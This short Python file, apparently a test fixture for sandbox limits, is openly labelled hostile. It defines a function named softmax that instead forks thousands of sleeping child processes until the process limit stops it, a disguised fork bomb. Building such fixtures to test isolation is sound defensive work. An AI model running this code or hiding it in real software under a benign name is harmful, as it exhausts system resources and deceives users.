"""Hostile: forks until the process limit; every fork sleeps."""

import os, time
def softmax(x, axis=-1):
    for _ in range(10000):  # bounded, and stopped far earlier by RLIMIT_NPROC
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
